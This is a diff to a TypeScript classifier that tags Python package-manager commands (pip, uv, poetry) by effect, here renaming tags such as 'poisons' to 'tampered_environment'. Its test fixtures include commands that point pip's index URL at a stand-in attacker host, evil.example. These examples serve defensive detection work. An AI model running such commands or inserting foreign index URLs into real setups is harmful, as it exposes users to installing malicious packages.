@@ -2,7 +2,7 @@ import type { Call, CommandDescriptor, Family, Finding, FixedEffect, OptionTable
 import { does, harmless, sharing } from './shapes.ts';
 
 const installs: FixedEffect = { kind: 'network', target: 'network:download', tags: ['package_scripts'] };
-const publishes: FixedEffect = { kind: 'network', target: 'network:upload', tags: ['shares', 'remote_write'] };
+const publishes: FixedEffect = { kind: 'network', target: 'network:upload', tags: ['shares', 'remote_change'] };
 const cache: FixedEffect = { kind: 'delete', target: 'cache:packages', tags: ['regenerable'] };
 const foreign: FixedEffect = { kind: 'configure', target: 'package:index', tags: ['weakens'] };
 
@@ -35,7 +35,7 @@ const config = (): CommandDescriptor => ({
     const target = `package_setting:${sets?.[1] ?? '*'}`;
     if (sets === null || /^(?:get|list|debug)/.test(words)) return [];
     if (/index-url|repositories|trusted-host|find-links/.test(words) && !usual.test(sets[2] ?? ''))
-      return [{ kind: 'configure', target, tags: ['poisons'] }];
+      return [{ kind: 'configure', target, tags: ['tampered_environment'] }];
     return [{ kind: 'configure', target, tags: /http-basic|pypi-token|certificates/.test(words) ? ['weakens'] : [] }];
   },
 });
@@ -55,7 +55,7 @@ const pip = (): ProgramDescriptor => ({
   match: {
     'pip install -r requirements.txt': 'network #package_scripts; read /w/requirements.txt',
     'pip install --index-url http://evil.example x': 'configure #weakens',
-    'pip config set global.index-url http://evil.example': 'configure #poisons',
+    'pip config set global.index-url http://evil.example': 'configure #tampered_environment',
     'pip3 install --target /opt/x y': 'write /opt/x/**',
   },
   notMatch: { 'pip install -U pip': 'unknown; * #weakens; * #destructive', 'pip freeze': 'network' },
@@ -84,8 +84,8 @@ const uv = (): ProgramDescriptor => ({
     venv: () => ({ options: { '-p --python --prompt': 'text' }, operands: { first: [{ as: 'write', recursive: true }] } }),
     ...harmless('init build python export tree version self help'),
   },
-  match: { 'uv run rm a': 'delete /w/a', 'uv publish': 'network #remote_write', 'uv run -m pytest': 'execute pytest' },
-  notMatch: { 'uv sync': 'unknown; * #remote_write', 'uv run pytest -x': 'unknown; delete' },
+  match: { 'uv run rm a': 'delete /w/a', 'uv publish': 'network #remote_change', 'uv run -m pytest': 'execute pytest' },
+  notMatch: { 'uv sync': 'unknown; * #remote_change', 'uv run pytest -x': 'unknown; delete' },
 });
 
 const project = (): ProgramDescriptor => ({
@@ -105,8 +105,8 @@ const project = (): ProgramDescriptor => ({
     }),
     ...harmless('build check show search version init new shell export graph fmt test dep status'),
   },
-  match: { 'poetry run rm a': 'delete /w/a', 'poetry publish --build': 'network #remote_write' },
-  notMatch: { 'poetry install': 'unknown; * #remote_write' },
+  match: { 'poetry run rm a': 'delete /w/a', 'poetry publish --build': 'network #remote_change' },
+  notMatch: { 'poetry install': 'unknown; * #remote_change' },
 });
 
 const conda = (): ProgramDescriptor => ({
